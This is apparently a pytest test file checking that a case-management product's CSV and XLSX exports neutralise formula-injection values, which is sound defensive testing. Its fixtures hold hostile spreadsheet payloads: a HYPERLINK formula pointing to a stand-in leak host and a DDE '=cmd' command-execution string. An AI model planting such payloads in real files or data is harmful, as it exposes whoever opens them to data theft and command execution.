"""Every spreadsheet and CSV the product writes, opened as a user's program would: a cell written
from data that begins with = + - @ tab or carriage return is plain text (a leading apostrophe),
never a formula; only a formula the product writes on purpose stays one. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from hostile_files import build_corpus
from openpyxl import load_workbook
from sqlalchemy import select
from support import T0, World
from walker import Walker

from caseflow.db.models import Household, Member
from caseflow.engine.audit import append_admin_event
from caseflow.kernel.spreadsheet import FORMULA_STARTS, CsvWriter, Formula, XlsxWriter, neutralise
from caseflow.ledger.compare import run_comparison
from caseflow.ledger.export import export_run
from caseflow.ledger.importer import import_roster
from caseflow.ledger.registry_export import export_roster_file
from caseflow.ledger.validate import ERROR, ReportEntry, write_report_xlsx
from caseflow.payments import export as bank
from caseflow.read.audit_search import ADMIN_EVENTS, AuditFilters, export_csv
from caseflow.workflow.registry import registry

HOSTILE = '=HYPERLINK("http://evil.example/leak","点我")'
OTHERS = ("+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd")


def xlsx_cells(source: Path | bytes) -> Iterator[Any]:
    """Every cell of every sheet, as openpyxl reads it (a formula cell reads as its text)."""
    wb = load_workbook(io.BytesIO(source) if isinstance(source, bytes) else source)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {ws.title}!{cell.coordinate}"
                yield cell.value


def csv_cells(text: str) -> Iterator[str]:
    for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))):
        yield from row


def assert_plain(cells: Iterable[Any], *expected: str) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    starting = [t for t in texts if t[:1] in FORMULA_STARTS]
    assert starting == [], starting
    for value in expected:
        assert "'" + value in texts, (value, texts)


def test_the_writer_neutralises_text_and_keeps_numbers_and_intended_formulas() -> None:
    assert [neutralise(v) for v in (HOSTILE, *OTHERS)] == ["'" + v for v in (HOSTILE, *OTHERS)]
    assert neutralise(-5) == -5 and neutralise("张三") == "张三" and neutralise(None) is None
    book = XlsxWriter()
    sheet = book.sheet("表")
    sheet.append([HOSTILE, -5, Formula("=SUM(B1:B1)")])
    ws = load_workbook(io.BytesIO(book.to_bytes())).worksheets[0]
    assert [c.data_type for c in ws[1]] == ["s", "n", "f"]  # only the intended formula
    assert ws["A1"].value == "'" + HOSTILE
    out = io.StringIO()
    CsvWriter(out).writerow(OTHERS)
    assert out.getvalue().startswith("\ufeff") and list(csv_cells(out.getvalue())) == [
        "'" + v for v in OTHERS
    ]


def test_comparison_export_and_validation_report(world: World, tmp_path: Path) -> None:
    path = next(p for s, p in build_corpus(tmp_path) if s.name == "公式文本.csv")
    imported = import_roster(world.session, path, "registry", None, T0)
    assert imported.import_id is not None, imported.report
    run = run_comparison(world.session, imported.import_id, [], world.actor("supervisor"), T0)
    out = export_run(world.session, run.id, tmp_path / "比对.xlsx", world.actor("supervisor"))
    assert_plain(xlsx_cells(out))
    cells = [c for c in xlsx_cells(out) if isinstance(c, str)]
    assert any(c.startswith("'" + HOSTILE) for c in cells)  # the member list names them
    report = write_report_xlsx(
        [ReportEntry(2, "-字段", ERROR, HOSTILE)], tmp_path / "报告.xlsx", title="@标题"
    )
    assert_plain(xlsx_cells(report), HOSTILE, "-字段", "@标题")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_registry_layout_roster_export(world: World, tmp_path: Path, suffix: str) -> None:
    case = Walker(world, T0).to_state(registry().workflow("dibao"), "approved")
    household = world.session.get_one(Household, case.household_id)
    household.head_name = HOSTILE
    household.phone = "+8613900000000"
    member = world.session.scalars(
        select(Member).where(Member.household_id == household.id)
    ).first()
    assert member is not None
    member.name = "@成员"
    world.session.commit()
    target = tmp_path / f"名单{suffix}"
    export_roster_file(world.session, world.actor("approver"), target, T0)
    if suffix == ".csv":
        cells: Iterable[Any] = csv_cells(target.read_text(encoding="utf-8"))
    else:
        cells = xlsx_cells(target)
    assert_plain(cells, HOSTILE, "+8613900000000", "@成员")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_bank_file(monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
    lines = [bank.BankLine(HOSTILE, "-640502", "@6228", 1234)]
    monkeypatch.setattr(bank, "bank_lines", lambda _session, _roll_id: iter(lines))

    class Roll:
        id = 1

    built = bank.build_file(None, Roll(), "R-1", fmt)  # type: ignore[arg-type]
    if fmt == "csv":
        cells: Iterable[Any] = csv_cells(built.data.decode("utf-8"))
    else:
        cells = xlsx_cells(built.data)
    assert_plain(cells, HOSTILE, "-640502", "@6228")
    assert built.total_fen == 1234


def test_audit_extract(world: World) -> None:
    append_admin_event(
        world.session,
        actor_id=None,
        action="=cmd|' /C calc'!A0",
        subject=HOSTILE,
        payload={},
        at=T0,
    )
    world.session.commit()
    text = export_csv(world.session, world.actor("supervisor"), ADMIN_EVENTS, AuditFilters())
    assert_plain(csv_cells(text), HOSTILE, "=cmd|' /C calc'!A0")
